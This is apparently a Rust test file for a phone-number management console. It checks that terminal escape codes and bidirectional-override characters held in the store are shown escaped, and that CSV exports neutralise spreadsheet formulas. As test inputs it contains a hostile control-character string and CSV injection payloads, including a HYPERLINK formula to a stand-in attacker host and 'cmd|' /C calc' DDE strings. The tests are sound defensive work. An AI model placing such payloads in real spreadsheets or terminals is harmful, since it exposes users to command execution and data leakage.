//! The console and hostile text: hidden characters held in the store (written before the
//! input rule refused them) show as their escapes and never reach the terminal raw; the
//! console's export neutralises spreadsheet formulas; an issue keeps its lines.

mod tui_common;

use phonedesk::domain::*;
use phonedesk::store::AuditEntry;
use tui_common::*;

const HOSTILE: &str = "A\u{1b}[31mB\u{9b}2J\u{202e}4321\u{2066}C\tD\u{7f}\u{200f}\nE";

/// No control, bidirectional control or separator on the screen (the rows' own line
/// breaks aside). Written out here so the test does not trust the code it tests.
fn assert_no_raw_hidden(screen: &str) {
    if let Some(c) = screen.chars().find(|&c| {
        c != '\n'
            && (c.is_control()
                || matches!(c, '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}')
                || matches!(
                    c,
                    '\u{200e}' | '\u{200f}' | '\u{61c}' | '\u{2028}' | '\u{2029}'
                ))
    }) {
        panic!("U+{:04X} reached the screen raw: {screen}", c as u32);
    }
}

/// Rewrites records the way a database written before the input rule holds them.
fn put(w: &World, changes: Vec<Change>) {
    let mut audit = AuditEntry {
        seq: 0,
        at: w.now,
        actor: HOSTILE.into(),
        role: Role::Admin,
        action: HOSTILE.into(),
        detail: HOSTILE.into(),
        result: HOSTILE.into(),
        ok: false,
        numbers: Vec::new(),
        changes: Vec::new(),
    };
    w.engine.store().apply(&changes, &mut audit).unwrap();
}

#[test]
fn hidden_characters_in_the_store_show_escaped_on_every_screen() {
    let w = world();
    let mut changes = Vec::new();
    for n in &w.inventory {
        let mut p = w.engine.store().number(n).unwrap().unwrap();
        p.label = Some(HOSTILE.into());
        changes.push(Change::PutNumber(p));
    }
    for mut u in w.engine.store().users().unwrap() {
        u.name = HOSTILE.into();
        changes.push(Change::PutUser(u));
    }
    put(&w, changes);
    let mut a = app(&w);
    let inventory = render(&mut a, 160, 40);
    assert!(inventory.contains("\\u{202e}4321"), "{inventory}");
    // Every screen, and the details of the first row where there is one.
    for keys in ["", "<Enter>", "1", "2", "3", "4", "5", "6", "6<Enter>", "7"] {
        let mut a = app(&w);
        press(&mut a, w.now, keys);
        for (width, height) in [(80, 24), (160, 40)] {
            assert_no_raw_hidden(&render(&mut a, width, height));
        }
    }
}

#[test]
fn the_console_export_neutralises_formulas_and_keeps_numbers_whole() {
    let w = world();
    let labels = [
        "=HYPERLINK(\"http://evil.example/?x\",\"Click\")",
        "+1+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
    ];
    for (n, label) in w.inventory.iter().zip(labels) {
        w.engine
            .dispatch(
                &admin(),
                Action::SetLabel {
                    number: n.clone(),
                    label: Some(label.into()),
                },
                w.now,
            )
            .unwrap();
    }
    let mut a = app(&w);
    press(&mut a, w.now, "e");
    assert!(a.status_text().contains("Exported"), "{}", a.status_text());
    let file = std::fs::read_dir(w.dir.path())
        .unwrap()
        .filter_map(|e| e.ok())
        .find(|e| e.file_name().to_string_lossy().ends_with(".csv"))
        .unwrap();
    let mut reader = csv::Reader::from_path(file.path()).unwrap();
    let headers = reader.headers().unwrap().clone();
    // The command line's columns: one CSV writer for both.
    assert_eq!(
        headers.iter().collect::<Vec<_>>(),
        phonedesk::export::CSV_HEADERS
    );
    let label = headers.iter().position(|h| h == "label").unwrap();
    let number = headers.iter().position(|h| h == "number").unwrap();
    let rows: Vec<csv::StringRecord> = reader.records().map(|r| r.unwrap()).collect();
    let got: Vec<&str> = rows.iter().map(|r| &r[label]).collect();
    for l in labels {
        assert!(got.contains(&format!("'{l}").as_str()), "{got:?}");
    }
    for r in &rows {
        assert!(
            w.inventory.iter().any(|n| n.as_str() == &r[number]),
            "{r:?}"
        );
    }
}

/// In an SSH session the export is CSV text on the client's terminal: formulas neutralised,
/// hidden characters escaped, and no file written anywhere.
#[test]
fn the_console_export_for_an_ssh_session_is_shown_and_writes_no_file() {
    let w = world();
    let mut changes = Vec::new();
    for (i, n) in w.inventory.iter().enumerate() {
        let mut p = w.engine.store().number(n).unwrap().unwrap();
        p.label = Some(if i == 0 {
            "=HYPERLINK(\"http://evil.example/?x\",\"Click\")".into()
        } else {
            HOSTILE.into()
        });
        changes.push(Change::PutNumber(p));
    }
    put(&w, changes);
    let ui = phonedesk::tui::UiOptions {
        export_dir: w.dir.path().to_path_buf(),
        export_on_screen: Some("ssh -p 2222 desk.example export > numbers.csv".into()),
        ..Default::default()
    };
    let mut a =
        phonedesk::tui::App::new(std::sync::Arc::clone(&w.engine), admin(), ui, w.now).unwrap();
    let files = |dir: &std::path::Path| std::fs::read_dir(dir).unwrap().count();
    let before = files(w.dir.path());
    press(&mut a, w.now, "e");
    // Wide enough that no row wraps.
    let screen = render(&mut a, 500, 40);
    assert!(
        screen.contains(&format!("Export: {} numbers as CSV", w.inventory.len())),
        "{screen}"
    );
    assert!(
        screen.contains("ssh -p 2222 desk.example export > numbers.csv"),
        "{screen}"
    );
    assert!(screen.contains("'=HYPERLINK("), "{screen}");
    assert!(screen.contains("\\u{202e}4321"), "{screen}");
    assert_no_raw_hidden(&screen);
    assert_eq!(files(w.dir.path()), before, "the export wrote a file");
    // Esc goes back to the Inventory.
    press(&mut a, w.now, "<Esc>");
    assert!(!render(&mut a, 500, 40).contains("Export:"));
}

#[test]
fn a_multi_line_issue_reads_on_its_own_lines() {
    let w = world();
    w.engine
        .dispatch(
            &admin(),
            Action::SubmitRequest(NewRequest::Other {
                category: Category::Technical,
                subject: "Dropped calls".into(),
                issue: "line one\r\nline two\nline three".into(),
                email: "ana@example.com".into(),
            }),
            w.now,
        )
        .unwrap();
    let mut a = app(&w);
    press(&mut a, w.now, "5<Enter>");
    let screen = render(&mut a, 120, 40);
    let row = |needle: &str| {
        screen
            .lines()
            .position(|l| l.contains(needle))
            .unwrap_or_else(|| panic!("no {needle:?} in {screen}"))
    };
    assert_eq!(row("line two"), row("line one") + 1, "{screen}");
    assert_eq!(row("line three"), row("line two") + 1, "{screen}");
}
